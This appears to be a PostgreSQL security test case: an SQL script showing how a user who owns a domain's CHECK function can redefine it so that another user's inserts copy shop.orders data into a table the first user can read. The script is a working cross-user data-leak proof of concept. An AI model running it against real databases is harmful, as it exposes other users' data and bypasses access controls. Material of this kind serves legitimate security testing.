-- finding: anothers-code shop.orders column note
-- people: alice@example.com
CREATE SCHEMA helpers AUTHORIZATION "alice@example.com"; GRANT USAGE ON SCHEMA helpers TO PUBLIC;
CREATE FUNCTION helpers.note(text) RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;
ALTER FUNCTION helpers.note(text) OWNER TO "alice@example.com";
CREATE DOMAIN shop.note AS text CHECK (helpers.note(VALUE));
ALTER TABLE shop.orders ADD note shop.note DEFAULT '';
-- first as postgres
CREATE OR REPLACE FUNCTION helpers.note(text) RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;
-- first as alice@example.com
DROP TABLE IF EXISTS helpers.taken;
CREATE TABLE helpers.taken (item text); GRANT INSERT ON helpers.taken TO PUBLIC;
-- first as alice@example.com
CREATE OR REPLACE FUNCTION helpers.note(text) RETURNS boolean LANGUAGE sql
  AS $$ INSERT INTO helpers.taken SELECT item FROM shop.orders; SELECT true $$;
-- first as bob@example.com
INSERT INTO shop.orders (item) VALUES ('more');
-- leak as alice@example.com
SELECT item FROM helpers.taken WHERE item = 'secret';
